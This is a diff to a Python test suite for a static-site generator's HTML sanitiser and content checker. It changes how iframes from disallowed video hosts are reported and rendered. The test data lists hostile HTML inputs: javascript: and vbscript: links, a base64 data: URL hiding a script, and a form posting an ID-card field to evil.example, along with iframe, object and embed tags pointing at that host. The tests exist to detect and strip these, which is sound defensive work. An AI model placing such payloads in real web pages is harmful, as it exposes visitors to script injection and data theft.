@@ -381,7 +381,8 @@ HOSTILE_HTML = {
     "vbscript-href": ('<a href="vbscript:msgbox(1)">vb</a>', "vbscript:"),
     "data-href": ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dữ liệu</a>', "data:"),
     "form": ('<form action="https://evil.example/thu"><input name="cccd"><button>Gửi</button></form>', "tag <form>"),
-    "iframe": ('<iframe src="https://evil.example/khung"></iframe>', "iframe"),
+    # Alone on its line an iframe is a pasted video (tests/test_media.py); inside text it is removed.
+    "iframe": ('Xem thêm <iframe src="https://evil.example/khung"></iframe> ở đây.', "<iframe>"),
     "object": ('<object data="https://evil.example/x.swf"></object>', "tag <object>"),
     "embed": ('<embed src="https://evil.example/x.swf">', "tag <embed>"),
     "markdown-js-link": ("[Bấm vào đây](javascript:alert(1))", "javascript:"),
@@ -404,15 +405,16 @@ def test_check_reports_each_hostile_construct_on_its_line(video_hosts: tuple[str
     project = make_project(tmp_path / "site", _yml(options))
     path = project.add_story("2023/html.md", valid_story(body=_hostile_body()))
     result = project.check("--lang", "en")
-    assert result.exit_code == 0, result.output
+    # A pasted video from a host the site does not allow cannot be shown at all: an error.
+    assert result.exit_code == (0 if video_hosts else 1), result.output
     problems = _problems(result.stdout)
     for marker, (text, words) in HOSTILE_HTML.items():
         line = _line_of(path, text)
         here = [m for p, n, s, m in problems if (p, n, s) == ("exemplars/2023/html.md", line, "warning")]
         assert any(words in m for m in here), f"{marker}: no warning naming {words!r} on line {line}: {here}"
     video_line = _line_of(path, VIDEO)
-    video_warnings = [m for _, n, _, m in problems if n == video_line]
-    assert bool(video_warnings) == (not video_hosts), video_warnings
+    video_problems = [(s, m) for _, n, s, m in problems if n == video_line]
+    assert [s for s, _ in video_problems] == ([] if video_hosts else ["error"]), video_problems
     allowed_lines = {_line_of(path, "<mark>"), _line_of(path, "[Cổng thông tin tỉnh]"), _line_of(path, "| 2023 |")}
     assert not [p for p in problems if p[1] in allowed_lines], "allowed HTML was reported"
 
@@ -425,15 +427,15 @@ def test_strict_makes_removed_html_an_error(tmp_path: Path) -> None:
     assert re.match(r"exemplars/2023/html\.md:\d+: error: ", result.stdout)
 
 
-def test_a_plain_http_or_foreign_iframe_is_reported_even_with_video_hosts(tmp_path: Path) -> None:
+def test_a_plain_http_or_foreign_iframe_is_an_error_even_with_video_hosts(tmp_path: Path) -> None:
     project = make_project(tmp_path / "site", _yml("video_hosts: [www.youtube-nocookie.com]"))
     body = (
         '<iframe src="http://www.youtube-nocookie.com/embed/a"></iframe>\n\n'
         '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/a"></iframe>\n'
     )
     path = project.add_story("2023/khung.md", valid_story(body=body))
-    lines = {n for _, n, _, m in _problems(project.check("--lang", "en").stdout) if "iframe" in m}
-    assert lines == {_line_of(path, "http://www"), _line_of(path, "evil.example")}
+    lines = {(n, s) for _, n, s, m in _problems(project.check("--lang", "en").stdout) if "video_hosts" in m}
+    assert lines == {(_line_of(path, "http://www"), "error"), (_line_of(path, "evil.example"), "error")}
 
 
 # -- raw HTML: what the sanitiser keeps, as a unit ----------------------------------------------------
@@ -564,14 +566,15 @@ def test_story_body_has_nothing_executable_left(hostile) -> None:
     assert "evil.example" not in text
 
 
-def test_iframes_left_in_a_story_are_allowed_videos_only(hostile) -> None:
-    """A foreign iframe is removed, not kept as an empty frame; the allowed video host stays."""
+def test_no_iframe_is_left_in_a_story_the_allowed_video_waits_for_a_click(hostile) -> None:
+    """A foreign iframe is removed, not kept as an empty frame; the allowed video is a poster whose
+    click loads its player (tests/test_media.py)."""
     _, site = hostile
-    frames = _story_body(site, "bai-html").xpath(".//iframe")
-    assert [urlsplit(f.get("src") or "").hostname for f in frames] == ["www.youtube-nocookie.com"], [
-        lxml.html.tostring(f, encoding="unicode") for f in frames
-    ]
-    assert frames[0].get("src", "").startswith("https://")
+    body = _story_body(site, "bai-html")
+    assert body.xpath(".//iframe") == []
+    players = body.xpath(".//a/@data-gs-player")
+    assert [urlsplit(p).hostname for p in players] == ["www.youtube-nocookie.com"], players
+    assert players[0].startswith("https://")
 
 
 def test_allowed_html_stays_in_the_story(hostile) -> None:
@@ -580,7 +583,7 @@ def test_allowed_html_stays_in_the_story(hostile) -> None:
     assert body.xpath(".//mark/text()") == ["chữ đánh dấu"]
     assert body.xpath(".//abbr/@title") == ["Ủy ban nhân dân"]
     assert [c.text_content().strip() for c in body.xpath(".//table//td")] == ["2023", "40"]
-    [figure] = body.xpath(".//figure")
+    [figure] = body.xpath(".//figure[contains(@class, 'gs-figure')]")
     [img] = figure.xpath(".//picture//img")  # libxml2 nests <img> in the (void) <source>
     assert img.get("alt") == "Ông Hòa bên vườn keo" and img.get("width") and img.get("height")
     assert figure.xpath(".//picture/source/@srcset")
